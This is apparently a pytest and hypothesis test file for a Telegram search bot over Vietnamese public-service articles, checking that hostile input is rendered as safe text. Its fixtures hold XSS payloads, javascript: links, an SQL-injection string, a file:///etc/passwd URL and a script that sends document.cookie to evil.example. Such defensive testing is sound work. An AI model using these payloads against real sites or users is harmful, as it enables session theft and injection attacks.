"""Hostile input: any Unicode from users, markup and scripts in articles, replies that stay valid Telegram HTML."""

from __future__ import annotations

import asyncio
import time
import unicodedata
from collections.abc import Iterator
from datetime import datetime
from functools import partial
from html import escape
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.formats import ParseError
from bot.formats.html import parse_html
from bot.formats.seed import parse_article_text
from bot.models import Answer, ArticleRow, Reason, ReloadReport, SearchResult, SkippedFile
from bot.service import SearchService
from bot.storage import Stats
from bot.telegram import render
from bot.text.normalize import clean, fold, tokens
from devtools.emulator import BotApiEmulator, Call
from tests.support.articles import article_text, make_knowledge
from tests.support.hostile import (
    HOSTILE_PARAGRAPHS,
    HOSTILE_TITLE,
    HOSTILE_URL,
    assert_valid_html,
    assert_valid_reply,
    write_hostile_articles,
)
from tests.support.process import BotProcess

HANOI = datetime.fromisoformat("2024-03-15T08:30:00+07:00")
ASK_BOUND_SECONDS = 0.2

# Pieces hostile users (and broken keyboards) send: controls, NUL, zero-width and bidi marks, emoji,
# combining floods, NFD Vietnamese, HTML, Markdown and full-text-search syntax.
PIECES = [
    "\x00", "\x07", "\x1b[31m", "\x7f", "\u0085", "\u200b", "\u200d", "\u2060", "\ufeff", "\u202e", "\u2066",
    "\u0300" * 50, "\u0301\u0323\u0309", "😀", "🏛️", "👨‍👩‍👧", "\U0001f1fb\U0001f1f3",
    unicodedata.normalize("NFD", "thủ tục hành chính"), "thu tuc hanh chinh", "TTHC", "dịch vụ công",
    "<b>", "</i>", "<script>alert(1)</script>", "&amp;", "&", "<", ">", '"', "'", "**bold**", "_x_", "`code`",
    "[a](javascript:alert(1))", "AND", "OR", "NOT", "NEAR(", "*", "^", ":", "-", '"', "(", ")", "%", "\n", "\t", " ",
]  # fmt: skip
hostile_text = st.one_of(
    st.text(max_size=4096),
    st.lists(st.sampled_from(PIECES), max_size=60).map("".join),
    st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=20)), max_size=40).map("".join),
)


# -- the normaliser ---------------------------------------------------------------------------------


@settings(max_examples=300)
@given(hostile_text)
def test_normaliser_is_idempotent_and_nfc_nfd_blind(text: str) -> None:
    cleaned = clean(text)
    assert clean(cleaned) == cleaned
    folded = fold(text)
    assert fold(folded) == folded
    for form in ("NFC", "NFD"):
        other = unicodedata.normalize(form, text)
        assert clean(other) == cleaned
        assert fold(other) == folded
        assert tokens(other) == tokens(text)


# -- the search service -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def loop_and_service(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[asyncio.AbstractEventLoop, SearchService]]:
    """A service over the seed, the shared articles and hostile ones, on a loop the sync tests drive."""
    root = tmp_path_factory.mktemp("hostile")
    knowledge = make_knowledge(root / "knowledge")
    write_hostile_articles(knowledge)
    loop = asyncio.new_event_loop()
    service = loop.run_until_complete(SearchService.open(root / "db.sqlite3", knowledge))
    try:
        yield loop, service
    finally:
        loop.run_until_complete(service.close())
        loop.close()


REASONS = set(Reason)


@settings(max_examples=250, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(question=hostile_text)
def test_service_answers_or_declines_any_question_quickly(
    loop_and_service: tuple[asyncio.AbstractEventLoop, SearchService], question: str
) -> None:
    loop, service = loop_and_service
    started = time.perf_counter()
    answer = loop.run_until_complete(service.ask(question, limit=4))
    elapsed = time.perf_counter() - started
    assert elapsed < ASK_BOUND_SECONDS, f"{elapsed:.3f}s for {question[:80]!r}"
    assert isinstance(answer, Answer)
    if answer.answered:
        assert answer.results
        assert answer.reason is None
    else:
        assert answer.results == ()
        assert answer.reason in REASONS
    # Whatever it is, the reply the bot would send is valid Telegram HTML.
    assert_valid_html(render.answer_html(answer, 0, 3))
    assert_valid_html(render.answer_html(answer, 3, 3))
    for r in answer.results:
        assert_valid_html(render.inline_html(r))


# -- every renderer, fed hostile content ----------------------------------------------------------------

urls = st.one_of(st.just(HOSTILE_URL), st.just("javascript:alert(1)"), st.just("data:text/html,<b>x</b>"),
                 st.just('https://x.example.vn/"><script>'), st.text(max_size=60))  # fmt: skip
texts = st.one_of(hostile_text.map(lambda t: t[:1500]), st.just("<a href='javascript:alert(1)'>x</a>" * 300))
nonempty = texts.filter(lambda t: bool(t.strip()))


@st.composite
def results(draw: st.DrawFn) -> SearchResult:
    return SearchResult(fact_id=draw(st.integers(1, 10**6)), text=draw(nonempty), url=draw(urls),
                        title=draw(nonempty), site=draw(texts), published=HANOI, score=1.0,
                        matched=tuple(draw(st.lists(st.text(max_size=10), max_size=5))))  # fmt: skip


@settings(max_examples=150)
@given(question=texts, found=st.lists(results(), min_size=1, max_size=5), titles=st.lists(nonempty, max_size=8))
def test_every_render_is_valid_telegram_html(question: str, found: list[SearchResult], titles: list[str]) -> None:
    answered = Answer(question=question, answered=True, results=tuple(found))
    for offset in (0, 1, 3):
        assert_valid_html(render.answer_html(answered, offset, 3))
    first = assert_valid_html(render.answer_html(answered, 0, 3))
    best = found[0]
    shown = render.shorten(best.text, render.MAX_FACT)
    if len(shown) < 1000 and render.utf16_len(escape(shown)) < 3000:
        assert shown in first  # the content is shown as text, markup and all
    for r in found:
        assert_valid_html(render.inline_html(r))
    declined = Answer(question=question, answered=False, reason=Reason.OFF_TOPIC, suggestions=tuple(titles))
    assert_valid_html(render.not_found_html(declined))
    rows = [ArticleRow(i, r.url, r.title, r.site, HANOI, None, None, None, "h", "s") for i, r in enumerate(found)]
    assert_valid_html(render.sources_html(rows, 0, 5))
    report = ReloadReport(knowledge_dir=question, loaded=[r.url for r in found],
                          skipped=[SkippedFile(path=t, reason=question) for t in titles], replaced=titles)  # fmt: skip
    assert_valid_html(render.reload_html(report))
    assert_valid_html(render.reload_error_html(question or "x", report))
    stats = Stats(10, 5, 12.0, [(t, 2) for t in titles], [(question or "x", 1)])
    assert_valid_html(render.stats_html(stats, 7))
    assert_valid_html(render.help_html("bot", titles, group=True, admin=True))


# -- hostile articles --------------------------------------------------------------------------------


def test_markup_in_an_article_is_stored_as_text() -> None:
    text = article_text(title=HOSTILE_TITLE, paragraphs=HOSTILE_PARAGRAPHS, url=HOSTILE_URL)
    article = parse_article_text(text)
    assert article.title == HOSTILE_TITLE
    assert article.paragraphs[0] == HOSTILE_PARAGRAPHS[0]
    assert str(article.url) == HOSTILE_URL


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x",
                                 "file:///etc/passwd", "//evil.example/x"])  # fmt: skip
def test_an_article_whose_source_is_not_http_is_refused(url: str) -> None:
    with pytest.raises(ParseError):
        parse_article_text(article_text(title="Bài", paragraphs=["Nội dung."], url=url))


def test_javascript_link_is_never_rendered_as_a_link() -> None:
    r = SearchResult(fact_id=1, text='<a href="javascript:alert(1)">bấm</a>', url="javascript:alert(1)",
                     title="<b>Tiêu đề</b>", site="<i>s</i>", published=HANOI, score=1.0, matched=())  # fmt: skip
    for html in (render.answer_html(Answer(question="q", answered=True, results=(r,))), render.inline_html(r)):
        plain = assert_valid_html(html)
        assert "<a href" not in html.replace("&lt;a href", "")
        assert '<a href="javascript:alert(1)">bấm</a>' in plain
        assert "<b>Tiêu đề</b>" in plain
    assert render.safe_url("javascript:alert(1)") is None
    assert render.link("t", "javascript:alert(1)") == "<b>t</b>"


async def test_hostile_articles_load_answer_and_render_as_text(tmp_path: Path) -> None:
    knowledge = tmp_path / "knowledge"
    knowledge.mkdir()
    write_hostile_articles(knowledge)
    # ~150 KB without a full stop (under the 200,000-character article limit; test_article_limits.py
    # shows a larger article skipped)
    long_line = "Hồ sơ điện tử liên thông " + "rất dài " * 16_000 + "kết thúc."
    (knowledge / "long.txt").write_text(
        article_text(title="Bài có dòng rất dài", paragraphs=["Mở đầu.", long_line, "x" * 20_000],
                     url="https://hostile.example.vn/dai.html"), encoding="utf-8")  # fmt: skip
    service = await SearchService.open(tmp_path / "db.sqlite3", knowledge)
    try:
        report = await service.reload()
        assert [s.path.rsplit("/", 1)[-1] for s in report.skipped] == ["hostile_js_url.txt"]
        assert "javascript" not in " ".join(a.url for a in service.sources())
        answer = await service.ask("xác thực điện tử javascript")
        assert answer.answered
        assert answer.results[0].url == HOSTILE_URL
        assert '<a href="javascript:alert(1)">' in answer.results[0].text  # stored as text
        html = render.answer_html(answer)
        plain = assert_valid_html(html)
        assert "javascript:alert(1)" in plain
        assert '<a href="javascript' not in html
        started = time.perf_counter()
        long_answer = await service.ask("hồ sơ điện tử liên thông rất dài")
        assert time.perf_counter() - started < ASK_BOUND_SECONDS
        assert long_answer.answered
        assert all(len(r.text) <= 1000 for r in long_answer.results)  # a long line is cut into short facts
        assert_valid_html(render.answer_html(long_answer))
    finally:
        await service.close()


# -- through the real bot and the emulator -------------------------------------------------------------

HOSTILE_QUESTIONS = [
    *PIECES,
    "".join(PIECES),
    "<b>TTHC</b> dịch vụ công <i>trực tuyến</i>",
    "xác thực điện tử javascript <script>",
    "cổng chứng thực điện tử document.cookie",
    "'; DROP TABLE query_log; --",
    "a" * 4096,
    "\u0300" * 4000,
    "😀" * 2000,
    unicodedata.normalize("NFD", "Ai chủ trì Phiên họp thứ bảy Ban Chỉ đạo CCHC?"),
]
HOSTILE_USERS = range(3001, 3001 + 7)


@pytest.mark.slow
def test_every_reply_to_a_hostile_run_is_valid_telegram_html(emu: BotApiEmulator, bot: BotProcess) -> None:
    """Each user sends 8 hostile questions at most (the flood limit); every one gets exactly one valid reply."""
    mark = emu.mark()
    rejected = len(emu.rejections)
    sent: dict[int, int] = {}
    questions = [q for q in HOSTILE_QUESTIONS if q.strip(" \n\t")]  # Telegram never delivers blank messages
    for i, question in enumerate(questions):
        user = HOSTILE_USERS[i % len(HOSTILE_USERS)]
        assert emu.say(user, question)
        sent[user] = sent.get(user, 0) + 1
    assert max(sent.values()) <= 8
    emu.wait_until(lambda: all(len(emu.delivered(u, mark)) >= n for u, n in sent.items()), timeout=30,
                   what="a reply to every hostile question")  # fmt: skip
    time.sleep(0.3)  # nothing more may follow
    for user, n in sent.items():
        assert len(emu.delivered(user, mark)) == n
    replies = [c for c in emu.calls[mark:] if c.method == "sendMessage"]
    assert len(replies) == sum(sent.values())
    for call in replies:
        assert_valid_reply(call)
    assert emu.rejections[rejected:] == []
    texts = [str(c.result["text"]) for c in replies]
    assert any("<script>document.cookie</script>" in t for t in texts)  # shown as text, never as markup
    assert "error while handling" not in bot.log_text()


def _answers(query_id: str, call: Call) -> bool:
    return str(call.params["inline_query_id"]) == query_id


@pytest.mark.slow
def test_hostile_inline_queries_get_valid_results(emu: BotApiEmulator, bot: BotProcess) -> None:
    """Inline mode: every result's message is valid Telegram HTML (the emulator refuses anything else)."""
    rejected = len(emu.rejections)
    for i, query in enumerate(["<b>TTHC</b> trực tuyến", "xác thực điện tử javascript <script>", "😀\u202e\x00",
                               "cổng chứng thực điện tử document.cookie", "&amp; <i> **x**"]):  # fmt: skip
        mark = emu.mark()
        query_id = emu.inline(3101 + i, query)
        call = emu.wait_call("answerInlineQuery", partial(_answers, query_id), since=mark, timeout=10)
        for result in call.params["results"]:
            assert_valid_html(str(result["input_message_content"]["message_text"]))
    assert emu.rejections[rejected:] == []


HOSTILE_PAGE = """<!doctype html><html><head><title>Cổng dịch vụ công mới</title>
<link rel="canonical" href="{canonical}">
<meta property="article:published_time" content="2024-03-01T08:00:00+07:00">
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
<body onload="alert('onload')"><article><h1>Cổng dịch vụ công mới</h1>
<p>Tỉnh Kon Tum khai trương cổng dịch vụ công mới <a href="javascript:alert('x')">bấm để xem</a> vào tháng Ba.</p>
<script>alert('in body')</script><iframe src="javascript:alert('frame')"></iframe>
<p>Người dân nộp hồ sơ <b onclick="alert('b')">trực tuyến</b> &lt;script&gt;alert('escaped')&lt;/script&gt; mọi lúc.</p>
<p>Cổng mới giúp rút ngắn thời gian giải quyết thủ tục hành chính cho người dân và doanh nghiệp.</p>
</article></body></html>"""


def test_hostile_html_page_is_ingested_as_text() -> None:

    article = parse_html(HOSTILE_PAGE.format(canonical="https://kontum.example.vn/cong-moi.html"))
    assert str(article.url) == "https://kontum.example.vn/cong-moi.html"
    body = "\n".join(article.paragraphs)
    assert "bấm để xem" in body  # the link's text is kept, as text
    for gone in ("document.cookie", "alert('in body')", "alert('onload')", "alert('b')", "javascript:", "frame"):
        assert gone not in body, gone
    r = SearchResult(fact_id=1, text=article.paragraphs[-2] if len(article.paragraphs) > 1 else body,
                     url=str(article.url), title=article.title, site=article.site, published=article.published,
                     score=1.0, matched=("script",))  # fmt: skip
    plain = assert_valid_html(render.answer_html(Answer(question="q", answered=True, results=(r,))))
    assert "trực tuyến" in plain


@pytest.mark.parametrize("canonical", ["javascript:alert(1)", "data:text/html,x"])
def test_html_page_claiming_a_non_http_address_is_refused(canonical: str) -> None:

    with pytest.raises(ParseError):
        parse_html(HOSTILE_PAGE.format(canonical=canonical))
